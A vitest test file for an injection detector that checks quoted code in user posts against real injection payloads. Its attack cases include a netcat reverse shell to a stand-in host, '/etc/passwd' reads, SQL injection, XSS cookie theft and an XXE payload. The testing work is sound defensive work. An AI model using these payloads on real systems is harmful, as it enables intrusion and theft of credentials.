import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { quotedInPost, withoutPosts } from '../../src/security/prose-post.js';
import type { Signal } from '../../src/core/types.js';

// Code inside a post (a question that opens with a sentence, a multi-line post with a sentence line)
// versus the same code breaking out of a value. Values written for these tests (not taken from a held-out set).
const d = new InjectionDetector();
const score = (v: string) => d.score(v).score;
const nl = (v: string) => v.replace(/\\n/g, '\n');
const fires = (attributes: Record<string, unknown>) => {
  const out: Signal[] = [];
  d.observe({ time: 0, severityNumber: 0, severityText: '', message: '', attributes, eventName: '' }, out);
  return out.length > 0;
};

describe('a value that opens with a sentence quotes the code after it', () => {
  it.each([
    'Could someone tell me why SELECT SLEEP(3) FROM dual; hangs the pool',
    'Why does my cron job run ls -la /root | mail me twice',
    'Where can I find ../../shared/settings.yml in the repo',
    'Our intern typed rm -rf ./build && npm run dist and lost the cache',
    'The docs say never run cmd /c "del /q C:\\temp\\*" on a shared box',
    "Is it normal that WAITFOR DELAY '00:00:02' blocks the whole batch?",
    'Config for this lives in /home/ana/.profile now',
  ])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
    expect(fires({ 'url.query': `q=${encodeURIComponent(v)}&page=1` })).toBe(false);
    expect(fires({ 'http.request.body': `name=bob&comment=${encodeURIComponent(v)}` })).toBe(false);
  });
  it.each([
    'please see this; cat /etc/passwd',
    "the user is bob' or '1'='1",
    'hello there | nc evil.example 4444 -e /bin/sh',
    'my name is x" onmouseover="alert(1)',
    'select name from users where id = 1 union select password from admins',
    'true is not unknown for update union select table_name from information_schema.tables',
    'case when 1=1 then sleep(5) else 0 end',
    'nice try {{7*7}} and ${7*7}',
    'you can read <script>alert(document.cookie)</script> here',
  ])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
});

describe('a multi-line post with a sentence line quotes its code lines', () => {
  it.each([
    'This is what I ran:\nSELECT pg_sleep(2), BENCHMARK(10, MD5(1));',
    '> ps -ef | grep [j]ava\nthat fixed it for me, thanks',
    'Steps to reproduce:\n1. run find . -name "*.log" -exec rm {} \\;\n2. open the admin page\n3. it is blank',
    'Solved it. Here is the query:\n\n    SELECT a FROM t UNION SELECT b FROM u;\n',
    'It fails with this:\n<!DOCTYPE config SYSTEM "config.dtd">',
    'cat ~/.ssh/config | grep Host\n^ that is what the wiki says to run',
  ])('clean: %s', (v) => {
    expect(score(nl(v))).toBe(0);
    expect(fires({ 'url.query': `q=${encodeURIComponent(nl(v))}&page=1` })).toBe(false);
  });
  it.each([
    'hello how are you\n; cat /etc/passwd',
    "this is my comment\n' or 1=1 --",
    '(select login from users\r\n\r\nfrom users limit 1,1)',
    '-1# union\n (select id from users limit 1,1)',
    'x\ncat /etc/passwd',
    'nice post\n<script>alert(1)</script>',
    '<?xml version="1.0"?>\n<!DOCTYPE foo [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<foo>&xxe;</foo>',
  ])('still an attack: %s', (v) => {
    expect(score(nl(v))).toBeGreaterThanOrEqual(5);
  });
});

describe('the post reading', () => {
  it('reads a range, and blanks only the parameters that are posts', () => {
    expect(quotedInPost('how do i make this faster? awk -f, x')).toBe(true);
    expect(quotedInPost('q=how do i make this faster? awk -f, x')).toBe(false);
    expect(quotedInPost('q=how do i make this faster? awk -f, x', 2)).toBe(true);
    const s = "q=how do i make this faster? awk -f, x && sort&id=1' or '1'='1";
    const t = withoutPosts(s);
    expect(t.length).toBe(s.length);
    expect(t.startsWith('q=  ')).toBe(true);
    expect(t.endsWith("&id=1' or '1'='1")).toBe(true);
    expect(withoutPosts("id=1' or '1'='1")).toBe("id=1' or '1'='1");
    expect(withoutPosts('how do i make this faster? awk -f, x')).toBe('');
  });
});
